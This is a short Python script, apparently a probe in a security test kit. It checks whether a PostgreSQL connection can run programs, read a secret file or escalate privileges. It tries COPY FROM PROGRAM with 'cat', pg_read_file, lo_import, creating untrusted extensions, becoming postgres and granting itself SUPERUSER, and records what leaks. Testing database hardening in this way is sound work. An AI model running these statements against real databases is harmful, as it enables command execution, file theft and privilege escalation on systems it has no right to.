"""Has PostgreSQL run programs and read files: COPY FROM PROGRAM, pg_read_file, lo_import."""

import os

import psycopg
from kit import TARGETS, prove


def attack() -> None:
    file = TARGETS["folder"] + "/secret.txt"
    ways = (
        f"COPY looted FROM PROGRAM 'cat {file}'",
        f"COPY looted FROM '{file}'",
        f"INSERT INTO looted SELECT pg_read_file('{file}')",
        f"INSERT INTO looted SELECT convert_from(lo_get(lo_import('{file}')), 'UTF8')",
        "CREATE EXTENSION file_fdw",
        "CREATE EXTENSION plpython3u",
        "SET session_authorization = 'postgres'",
        "ALTER ROLE CURRENT_USER SUPERUSER",
        "SET temp_file_limit = -1",
    )
    with psycopg.connect(os.environ["DATABASE_URL"], autocommit=True) as connection:
        connection.execute("CREATE TABLE looted (what text)")
        for way in ways:
            try:
                connection.execute(way)
                prove(way)
                for (what,) in connection.execute("SELECT what FROM looted").fetchall():
                    prove(what)
            except psycopg.Error:
                continue
